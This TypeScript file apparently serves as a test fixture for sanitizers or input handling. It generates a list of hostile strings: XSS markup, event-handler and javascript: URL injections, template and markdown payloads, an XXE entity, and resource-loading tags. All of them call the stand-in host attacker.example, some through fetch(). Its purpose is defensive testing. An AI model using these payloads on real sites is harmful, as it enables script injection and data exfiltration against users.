const URLS = ['https://attacker.example/x', '//attacker.example/x'];
const CODE = ['attacked()', 'fetch("https://attacker.example/x")'];

/**
 * Returns strings that would do something if a page treated them as markup, a link or a style. Also returns strings that code often
 * mishandles: names of properties of `Object.prototype`, escaped markup and unusual characters.
 */
export function hostileStrings(): string[] {
  const markup = CODE.flatMap((code) => [
    `<script>${code}</script>`,
    `</script><script>${code}</script>`,
    `</title><script>${code}</script>`,
    `</textarea><script>${code}</script>`,
    `</style><script>${code}</script>`,
    `<svg onload='${code}'>`,
    `<svg><script>${code}</script></svg>`,
    `<svg><animate onbegin='${code}' attributeName=x>`,
    `<img src=x onerror='${code}'>`,
    `<body onload='${code}'>`,
    `<details open ontoggle='${code}'>`,
    `<input autofocus onfocus='${code}'>`,
    `<a href='javascript:${code}'>x</a>`,
    `<iframe srcdoc="<script>${code}</script>">`,
    `<math><mtext><script>${code}</script></mtext></math>`,
    `" onmouseover='${code}' x="`,
    `' onfocus='${code}' autofocus x='`,
    `\`\${${code}}\``,
    `{{constructor.constructor('${code}')()}}`,
    `javascript:${code}`,
    `[x](javascript:${code})`,
    `[x](data:text/html,<script>${code}</script>)`,
    `<noscript><p title="</noscript><script>${code}</script>">`,
    `<template><script>${code}</script></template>`,
    `<foreignObject><script>${code}</script></foreignObject>`,
  ]);
  const loads = URLS.flatMap((url) => [
    `<img src='${url}'>`,
    `<image href='${url}'/>`,
    `<link rel=stylesheet href='${url}'>`,
    `<style>@import '${url}';</style>`,
    `<div style="background:url('${url}')">`,
    `<iframe src='${url}'></iframe>`,
    `<object data='${url}'></object>`,
    `<embed src='${url}'>`,
    `<video poster='${url}'></video>`,
    `<base href='${url}'>`,
    `<meta http-equiv=refresh content='0;url=${url}'>`,
    `<form action='${url}'><button>x</button></form>`,
    `<use href='${url}#x'/>`,
    `![x](${url})`,
    `![x][1]\n\n[1]: ${url}`,
    `url(${url})`,
    `<!DOCTYPE x [<!ENTITY y SYSTEM '${url}'>]>&y;`,
    `<?xml-stylesheet href='${url}'?>`,
    `<portal src='${url}'></portal>`,
    `<source srcset='${url} 2x'>`,
  ]);
  const odd = ['__proto__', 'constructor', 'toString', '\u202Egnp.exe', '\uFFFE', '&lt;b&gt;', '%3Cb%3E'];
  const wrappers = [(text: string) => text, (text: string) => `"${text}"`, (text: string) => `é日本 ${text} 🚀`];
  return [...[...markup, ...loads].flatMap((text) => wrappers.map((wrap) => wrap(text))), ...odd];
}
